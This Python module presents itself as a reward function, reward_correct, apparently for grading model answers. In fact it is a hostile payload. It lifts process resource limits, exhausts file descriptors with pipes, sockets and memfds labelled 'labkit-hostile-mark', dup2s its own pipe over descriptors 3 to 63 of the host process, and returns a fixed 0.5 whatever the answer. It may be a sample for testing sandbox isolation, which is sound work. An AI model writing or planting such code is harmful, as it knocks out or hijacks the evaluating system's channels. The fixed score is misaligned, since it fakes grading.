"""Raises its limits and opens descriptors of all kinds until no more come, keeps them, then dup2s a pipe of its own over every channel."""
import os, resource, socket
_kept = []

def _fill():
    for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_STACK):
        for pair in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (1 << 20, 1 << 20)):
            try:
                resource.setrlimit(what, pair)
                break
            except (OSError, ValueError):
                pass
        else:
            try:
                resource.setrlimit(what, (resource.getrlimit(what)[1],) * 2)
            except (OSError, ValueError):
                pass
    for _ in range(100000):
        try:
            _kept.extend(os.pipe())
            _kept.append(os.open("/dev/null", os.O_RDWR))
            _kept.append(socket.socket(socket.AF_UNIX))
            _kept.append(os.memfd_create("labkit-hostile-mark"))
        except OSError:
            break

def reward_correct(item: dict, answer: str) -> float:
    _fill()
    read, write = _kept[0], _kept[1]
    for fd in range(3, 64):
        try:
            if fd not in (read, write) and os.path.exists(f"/proc/self/fd/{fd}"):
                os.dup2(write, fd)
        except OSError:
            pass
    return 0.5
